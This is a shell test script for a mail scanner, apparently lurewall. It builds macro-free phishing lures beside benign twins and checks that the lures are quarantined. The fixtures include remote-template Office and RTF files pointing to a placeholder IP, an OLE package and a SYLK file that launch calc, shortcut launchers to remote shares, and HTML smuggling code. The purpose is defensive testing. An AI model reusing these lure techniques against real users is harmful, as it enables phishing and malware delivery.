#!/bin/sh
# Lures without macros, each beside its benign twin, end to end through
# `lurewall scan --json` with the shipped default policy (issue 16):
# documents that fetch a template or object on open (UNC/WebDAV, file:,
# http, RTF \template, an altChunk RTF carrying a script), launchers
# (.url to a share, .library-ms, .search-ms, .chm, SVG with script, HTML
# redirecting to search-ms:), SYLK with Excel 4.0 macros and HTML
# smuggling that libmagic calls text.  Every lure is quarantined; every
# twin (a newsletter .docx with links and linked images, a document
# whose template is on the local disk, an .url bookmark, a BI report
# whose script sorts a table and exports CSV, a Perl script, a SYLK of
# plain numbers) is accepted.
. "${LW_TOP:-.}/t/lib.sh"

d=$(tmpdir nomacro)
mkdir -p "$d/policy.d" "$d/mail"
cp "$LW_TOP/conf/policy.d/default.yaml" "$d/policy.d/"
cat > "$d/lurewall.yaml" <<EOC
policy_dir: policy.d
quarantine_dir: quarantine
EOC

/usr/bin/python3 - "$d/mail" <<'EOP' || bail "fixtures"
import base64, io, os, sys, zipfile
out = sys.argv[1]
REL = ("http://schemas.openxmlformats.org/officeDocument/2006/"
       "relationships/")

def eml(name, fname, data, ctype="application/octet-stream"):
    b = base64.encodebytes(data).decode()
    msg = ("From: Partner <info@partner.example>\r\n"
           "To: sato@example.co.jp\r\n"
           "Subject: documents\r\n"
           "Message-ID: <%s@partner.example>\r\n"
           "MIME-Version: 1.0\r\n"
           "Content-Type: multipart/mixed; boundary=b\r\n\r\n"
           "--b\r\nContent-Type: text/plain\r\n\r\nPlease see the file.\r\n"
           "--b\r\nContent-Type: %s; name=\"%s\"\r\n"
           "Content-Disposition: attachment; filename=\"%s\"\r\n"
           "Content-Transfer-Encoding: base64\r\n\r\n%s\r\n--b--\r\n"
           % (name, ctype, fname, fname, b))
    open(os.path.join(out, name + ".eml"), "w").write(msg)

def docx(rels=None, docrels=None, extra=None, body="<w:p/>"):
    f = io.BytesIO()
    z = zipfile.ZipFile(f, "w", zipfile.ZIP_DEFLATED)
    z.writestr("[Content_Types].xml",
               '<?xml version="1.0"?><Types xmlns="http://schemas.'
               'openxmlformats.org/package/2006/content-types"><Override '
               'PartName="/word/document.xml" ContentType="application/'
               'vnd.openxmlformats-officedocument.wordprocessingml.'
               'document.main+xml"/></Types>')
    z.writestr("word/document.xml",
               '<w:document xmlns:w="http://schemas.openxmlformats.org/'
               'wordprocessingml/2006/main"><w:body>%s</w:body>'
               '</w:document>' % body)
    z.writestr("word/settings.xml", "<w:settings/>")
    if rels:
        z.writestr("word/_rels/settings.xml.rels",
                   '<Relationships>%s</Relationships>' % rels)
    if docrels:
        z.writestr("word/_rels/document.xml.rels",
                   '<Relationships>%s</Relationships>' % docrels)
    for k, v in (extra or {}).items():
        z.writestr(k, v)
    z.close()
    return f.getvalue()

def tmpl(target):
    return ('<Relationship Id="rId1" Type="%sattachedTemplate" '
            'Target="%s" TargetMode="External"/>' % (REL, target))

eml("lure-webdav", "invoice.docx",
    docx(tmpl("\\\\198.51.100.9@SSL\\DavWWWRoot\\t.dotm")))
eml("lure-file", "invoice.docx",
    docx(tmpl("file://198.51.100.9/share/t.dotm")))
eml("lure-http", "invoice.docx", docx(tmpl("http://198.51.100.9/t.dotm")))
eml("benign-localtemplate", "minutes.docx", docx(tmpl(
    "file:///C:\\Users\\sato\\AppData\\Roaming\\Microsoft\\Templates\\"
    "Normal.dotm")))
eml("benign-newsletter", "newsletter.docx", docx(docrels=
    '<Relationship Id="rId5" Type="%shyperlink" Target="https://'
    'www.example.com/news" TargetMode="External"/>'
    '<Relationship Id="rId6" Type="%simage" Target="https://'
    'www.example.com/logo.png" TargetMode="External"/>' % (REL, REL),
    body='<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>'
    '<w:instrText> INCLUDEPICTURE "https://www.example.com/logo.png" '
    '\\* MERGEFORMATINET </w:instrText></w:r></w:p>'))
eml("lure-includetext", "order.docx", docx(body=
    '<w:p><w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>'
    'TEXT "\\\\\\\\198.51.100.9\\\\s\\\\x.docx"</w:instrText></w:r></w:p>'))

# RTF: a remote template; an OLE Package object holding a script.
eml("lure-rtf-template", "order.rtf",
    b"{\\rtf1\\ansi{\\*\\template http://198.51.100.9/t.dot}hello}",
    "application/rtf")
def lpas(s):
    s = s.encode() + b"\0"
    return len(s).to_bytes(4, "little") + s
js = b'var s = new ActiveXObject("WScript.Shell"); s.Run("calc");\r\n'
native = (b"\x02\x00" + b"run.js\0" + b"C:\\t\\run.js\0" + b"\0\0\0\0" +
          (12).to_bytes(4, "little") + b"C:\\t\\run.js\0" +
          len(js).to_bytes(4, "little") + js)
ole1 = ((0x0501).to_bytes(4, "little") + (2).to_bytes(4, "little") +
        lpas("Package") + lpas("") + lpas("") +
        len(native).to_bytes(4, "little") + native)
rtf = (b"{\\rtf1\\ansi{\\object\\objemb{\\*\\objclass Package}"
       b"{\\*\\objdata " + ole1.hex().encode() + b"}}}")
eml("lure-altchunk", "report.docx", docx(docrels=
    '<Relationship Id="rId9" Type="%saFChunk" Target="afchunk.rtf"/>'
    % REL, extra={"word/afchunk.rtf": rtf},
    body='<w:altChunk r:id="rId9"/>'))

# Launchers.
eml("lure-url", "invoice.url",
    b"[InternetShortcut]\r\nURL=file://198.51.100.9/share/invoice.exe\r\n")
eml("benign-url", "portal.url",
    b"[InternetShortcut]\r\nURL=https://portal.example.com/\r\n")
eml("lure-library", "Documents.library-ms",
    b'<?xml version="1.0" encoding="UTF-8"?>\r\n<libraryDescription '
    b'xmlns="http://schemas.microsoft.com/windows/2009/library">'
    b'<searchConnectorDescriptionList><searchConnectorDescription>'
    b'<simpleLocation><url>\\\\198.51.100.9@SSL\\DavWWWRoot</url>'
    b'</simpleLocation></searchConnectorDescription>'
    b'</searchConnectorDescriptionList></libraryDescription>\r\n')
eml("lure-searchms", "Invoices.search-ms",
    b'<?xml version="1.0"?>\r\n<persistedQuery version="1.0"><viewInfo/>'
    b'<query><scope><include path="\\\\198.51.100.9\\s"/></scope></query>'
    b'</persistedQuery>\r\n')
eml("lure-html-searchms", "invoice.html",
    b"<!DOCTYPE html>\n<html><head><title>Invoice</title></head><body>"
    b"<script>window.location.href='search-ms:query=invoice&crumb="
    b"location:\\\\198.51.100.9@80\\s&displayname=Invoices';</script>"
    b"</body></html>\n", "text/html")
eml("lure-chm", "manual.chm",
    b"ITSF\x03\x00\x00\x00\x60\x00\x00\x00" + b"\x00" * 500)
eml("lure-svg", "scan.svg",
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b'<script>location="https://198.51.100.9/p"</script></svg>\n',
    "image/svg+xml")

# SYLK: Excel 4.0 macros; and a SYLK of numbers.
eml("lure-sylk", "prices.slk",
    b'ID;PWXL;N;E\r\nP;PGeneral\r\nO;L;D;V0;K47;G100 0.001;E\r\n'
    b'C;Y1;X1;K0;EEXEC("cmd /c calc")\r\nC;Y2;X1;K0;EHALT()\r\n'
    b'NN;NAuto_open;ER1C1\r\nE\r\n')
eml("benign-sylk", "prices.slk",
    b'ID;PWXL;N;E\r\nC;Y1;X1;K12\r\nC;Y2;X1;K30\r\n'
    b'C;Y3;X1;K42;ESUM(R1C1:R2C1)\r\nE\r\n')

# HTML smuggling in a file libmagic types as text, and a BI report.
payload = base64.b64encode(os.urandom(12000)).decode()
eml("lure-smuggling", "invoice.html",
    ("var d = '%s';\nfunction go() { var b = atob(d); var u = new "
     "Uint8Array(b.length); for (var i = 0; i < b.length; i++) u[i] = "
     "b.charCodeAt(i); var blob = new Blob([u], {type: 'application/"
     "octet-stream'}); if (window.navigator.msSaveOrOpenBlob) "
     "window.navigator.msSaveOrOpenBlob(blob, 'invoice.zip'); }\ngo();\n"
     % payload).encode(), "text/html")
logo = base64.b64encode(os.urandom(9000)).decode()
eml("benign-bireport", "sales-report.html",
    ("<!DOCTYPE html>\n<html><head><title>Sales Q3</title>\n<script>\n"
     "function sortTable(n) { var t = document.getElementById('t'); "
     "var rows = Array.from(t.rows).slice(1); rows.sort(function (a, b) "
     "{ return a.cells[n].innerText.localeCompare(b.cells[n].innerText);"
     " }); rows.forEach(function (r) { t.tBodies[0].appendChild(r); }); }\n"
     "function exportCsv() { var csv = 'region,sales\\n'; var blob = new "
     "Blob([csv], {type: 'text/csv'}); var a = document.createElement("
     "'a'); a.href = URL.createObjectURL(blob); a.download = 'sales.csv';"
     " a.click(); }\n</script></head><body>"
     "<img src=\"data:image/png;base64,%s\">"
     "<table id=\"t\"><tr><th onclick=\"sortTable(0)\">Region</th></tr>"
     "<tr><td>North</td></tr></table>"
     "<button onclick=\"exportCsv()\">CSV</button></body></html>\n"
     % logo).encode(), "text/html")
eml("benign-perl", "fixperms.pl",
    b"#!/usr/bin/perl -w\nuse strict;\nforeach my $f (@ARGV) "
    b"{ chmod 0644, $f; }\n", "text/plain")
EOP

BOUND=120 bounded "$LUREWALL" scan -c "$d/lurewall.yaml" \
    --rcpt sato@example.co.jp --json "$d"/mail/*.eml \
    > "$d/out.json" 2> "$d/err.txt"
rc=$?
is 1 "$rc" "scan exits 1 (some flagged, no error)"

/usr/bin/python3 - "$d/out.json" > "$d/tap.txt" <<'EOP'
import json, os, sys
want = {
    "lure-webdav": ("quarantine", "OFFICE_REMOTE_TEMPLATE", "WebDAV"),
    "lure-file": ("quarantine", "OFFICE_REMOTE_TEMPLATE", "[file]"),
    "lure-http": ("quarantine", "OFFICE_REMOTE_TEMPLATE", "http(s)"),
    "lure-includetext": ("quarantine", "OFFICE_REMOTE_TEMPLATE",
                         "INCLUDETEXT"),
    "lure-rtf-template": ("quarantine", "OFFICE_REMOTE_TEMPLATE",
                          "template"),
    "lure-altchunk": ("quarantine", "FILE_SCRIPT", "afchunk.rtf/object1"),
    "lure-url": ("quarantine", "FILE_SHORTCUT", "file target"),
    "lure-library": ("quarantine", "FILE_SHORTCUT", ""),
    "lure-searchms": ("quarantine", "FILE_SHORTCUT", ""),
    "lure-html-searchms": ("quarantine", "FILE_HTML_SMUGGLING",
                           "search-ms"),
    "lure-chm": ("quarantine", "FILE_SCRIPT", ""),
    "lure-svg": ("quarantine", "FILE_HTML_SMUGGLING", "SVG"),
    "lure-sylk": ("quarantine", "OFFICE_XLM_SUSPICIOUS", "EXEC"),
    "lure-smuggling": ("quarantine", "FILE_HTML_SMUGGLING",
                       "msSaveOrOpenBlob"),
    "benign-localtemplate": ("accept", None, None),
    "benign-newsletter": ("accept", None, None),
    "benign-url": ("accept", None, None),
    "benign-sylk": ("accept", None, None),
    "benign-bireport": ("accept", "FILE_HTML_SCRIPT", "without download"),
    "benign-perl": ("accept", "FILE_UNIX_SCRIPT", ""),
}
res = {}
for line in open(sys.argv[1], encoding="utf-8"):
    o = json.loads(line)
    res[os.path.basename(o["file"])[:-4]] = o
n = 0
for name in sorted(want):
    action, rule, sub = want[name]
    o = res.get(name)
    n += 1
    got = o["action"] if o else None
    print("%s %d - %s: %s" % ("ok" if got == action else "not ok", n, name,
                              action))
    if got != action and o:
        print("# got %s score %s: %s" % (got, o["score"], o["rules"]))
        for f in o["findings"]:
            print("#   %s %s %s" % (f["rule"], f["part"], f["detail"]))
    if rule is None:
        n += 1
        ok = o is not None and o["findings"] == []
        print("%s %d - %s: no finding" % ("ok" if ok else "not ok", n, name))
        if not ok and o:
            for f in o["findings"]:
                print("#   %s %s %s" % (f["rule"], f["part"], f["detail"]))
        continue
    n += 1
    hit = o is not None and any(f["rule"] == rule and
                                (sub in f["detail"] or sub in f["part"])
                                for f in o["findings"])
    print("%s %d - %s: %s %s" % ("ok" if hit else "not ok", n, name, rule,
                                 sub))
    if not hit and o:
        for f in o["findings"]:
            print("#   %s %s %s" % (f["rule"], f["part"], f["detail"]))
EOP
is 0 "$?" "results read"
# One line per check: "ok - ..." / "not ok - ..." and "# ..." diagnostics.
while IFS= read -r line; do
	case $line in
	"ok "*) ok 0 "${line#ok [0-9]* - }" ;;
	"not ok "*) ok 1 "${line#not ok [0-9]* - }" ;;
	*) echo "$line" ;;
	esac
done < "$d/tap.txt"
[ -s "$d/tap.txt" ] || ok 1 "results written"
done_testing
